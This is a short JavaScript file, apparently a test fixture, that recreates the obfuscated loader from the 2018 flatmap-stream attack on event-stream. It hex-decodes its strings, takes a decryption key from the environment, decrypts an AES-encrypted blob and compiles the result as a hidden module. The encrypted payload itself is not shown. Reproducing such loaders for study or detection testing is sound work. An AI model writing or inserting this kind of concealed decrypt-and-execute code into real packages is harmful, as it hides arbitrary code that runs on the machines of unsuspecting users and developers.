// Modelled on the flatmap-stream payload added to event-stream in 2018:
// an AES-encrypted blob, decrypted with a key taken from the consuming
// package's description, compiled as a module. Rewritten for the test.
var r = require, t = process;
function e(r) { return Buffer.from(r, "hex").toString(); }
var n = r(e("2e2f746573742f64617461")), o = t[e(n[3])][e(n[4])];
if (o) {
  var u = r(e(n[2]))[e(n[6])](e(n[5]), o),
    a = u.update(n[0], e(n[8]), e(n[9]));
  a += u.final(e(n[9]));
  var f = new module.constructor();
  f.paths = module.paths;
  f._compile(a, "");
}
